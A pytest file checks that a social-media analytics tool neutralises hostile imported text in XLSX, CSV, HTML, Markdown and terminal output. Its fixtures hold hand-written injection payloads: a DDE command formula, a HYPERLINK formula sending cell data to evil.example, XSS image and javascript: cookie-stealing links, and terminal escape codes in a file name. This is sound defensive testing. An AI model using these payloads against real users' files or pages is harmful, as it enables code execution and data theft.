"""Outputs safe to open (issue 14, item 6): imported text never runs as a spreadsheet
formula, a `javascript:` link, raw HTML in Markdown, or an escape code in the terminal.

The hostile values are written by hand below; each expectation is counted from them by hand.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from smi.safety import markdown_text, neutralise_formula, printable, safe_url

# Text a spreadsheet would run: the first two are the examples.
FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1,2)",
            "-2+3", "@SUM(A1:A2)"]
ORG = "<img src=x onerror=alert(1)> *Theatr* [Bach](javascript:alert(2))"


def _write(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    with (folder / "posts.csv").open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["platform", "post_id", "account", "published_at", "text", "url", "reactions", "observed_at"])
        for i, text in enumerate(FORMULAS[:4]):
            w.writerow(["x", f"p{i}", "ourtheatre", f"2026-07-0{i + 1}T10:00:00Z", text,
                        "javascript:alert(document.cookie)" if i == 0 else f"https://x.com/ourtheatre/status/{i}",
                        str(100 - i), "2026-08-01T00:00:00Z"])
    with (folder / "interactions.csv").open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["platform", "interaction_id", "post_id", "author", "created_at", "text"])
        w.writerow(["x", "c1", "p0", "sam", "2026-07-01T11:00:00Z", FORMULAS[4]])
    return folder


@pytest.fixture
def hostile_ws(make_ws, cli, tmp_path) -> Path:
    ws = make_ws(name=ORG)
    cli("import", "--no-enrich", "-w", ws, _write(tmp_path / "in"))
    return ws


def test_xlsx_writes_text_never_formulas(hostile_ws, cli, tmp_path):
    cli("export", "xlsx", "--out", tmp_path / "x", "-w", hostile_ws)
    wb = load_workbook(tmp_path / "x" / "smi-export.xlsx")
    formulas = [(s.title, c.coordinate) for s in wb for row in s.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    texts = {c.value for s in wb for row in s.iter_rows() for c in row if c.data_type == "s"}
    assert set(FORMULAS) <= texts  # kept as they were, as text


def test_canonical_csv_keeps_the_text_and_says_so(hostile_ws, cli, tmp_path):
    r = cli("export", "csv", "--out", tmp_path / "c", "-w", hostile_ws)
    # 4 post texts + 1 comment start like a formula (the javascript: url does not)
    assert "5 text cells start with = + - or @" in r.output
    with (tmp_path / "c" / "posts.csv").open(encoding="utf-8") as f:
        assert sorted(row["text"] for row in csv.DictReader(f)) == sorted(FORMULAS[:4])


def test_csv_for_spreadsheet_neutralises_leading_formula_characters(hostile_ws, cli, tmp_path):
    r = cli("export", "csv", "--for-spreadsheet", "--out", tmp_path / "s", "-w", hostile_ws)
    assert "5 text cells starting with = + - or @ got a leading apostrophe" in r.output
    with (tmp_path / "s" / "posts.csv").open(encoding="utf-8") as f:
        assert sorted(row["text"] for row in csv.DictReader(f)) == sorted("'" + t for t in FORMULAS[:4])
    with (tmp_path / "s" / "interactions.csv").open(encoding="utf-8") as f:
        assert [row["text"] for row in csv.DictReader(f)] == ["'" + FORMULAS[4]]
    bad = cli("export", "xlsx", "--for-spreadsheet", "--out", tmp_path / "z", "-w", hostile_ws, ok=False)
    assert bad.exit_code == 1 and "csv only" in bad.output


def test_reports_link_only_http_and_escape_the_name(hostile_ws, cli, tmp_path):
    cli("report", "--month", "2026-07", "--format", "html,md", "--out", tmp_path / "r", "-w", hostile_ws)
    html = next((tmp_path / "r").rglob("*.html")).read_text(encoding="utf-8")
    md = next((tmp_path / "r").rglob("*.md")).read_text(encoding="utf-8")
    assert 'href="javascript' not in html.lower() and "alert(document.cookie)" not in html
    assert 'href="https://x.com/ourtheatre/status/1"' in html  # an http(s) link stays a link
    assert "<img" not in html
    heading = md.splitlines()[0]
    assert re.search(r"(?<!\\)[<\[]", heading) is None  # every < and [ escaped: no raw HTML, no link
    assert heading.startswith(r"# \<img src=x onerror=alert\(1\)\> \*Theatr\* \[Bach\]\(javascript:alert\(2\)\)")


def test_terminal_escape_codes_are_not_echoed(make_ws, cli, tmp_path):
    ws = make_ws()
    folder = tmp_path / "esc"
    folder.mkdir()
    name = "\x1b]0;pwned\x07\x1b[31mred-posts.csv"
    (folder / name).write_text("platform,post_id,published_at,text\nx,1,2026-07-01T10:00:00Z,hi\n", encoding="utf-8")
    r = cli("import", "--no-enrich", "-w", ws, folder)
    assert "\x1b" not in r.output and "\x07" not in r.output
    assert r"\x1b[31mred-posts.csv" in r.output
    # a file named so does not import: its name in the error is made printable too
    (folder / name).write_text("platform,post_id,published_at\nx,1,0001-01-01\n", encoding="utf-8")
    bad = cli("import", "--no-enrich", "-w", ws, folder, ok=False)
    assert bad.exit_code == 1 and "\x1b" not in bad.output


@pytest.mark.parametrize(("url", "expected"), [
    ("https://example.org/a", "https://example.org/a"), ("http://x.com/p/1", "http://x.com/p/1"),
    ("javascript:alert(1)", None), (" JavaScript:alert(1)", None), ("data:text/html,hi", None),
    ("file:///etc/passwd", None), ("//evil.example/", None), ("https:///nohost", None),
    ("https://ex.org/\x1b[31m", None), ("", None), (None, None)])
def test_safe_url(url, expected):
    assert safe_url(url) == expected


def test_helpers_by_hand():
    assert neutralise_formula("=1+1") == "'=1+1" and neutralise_formula("a=1") == "a=1"
    assert neutralise_formula(None) is None
    assert markdown_text("<b>*x*</b>") == r"\<b\>\*x\*\</b\>"
    assert printable("a\x1b[0mb\x9b") == r"a\x1b[0mb\x9b"
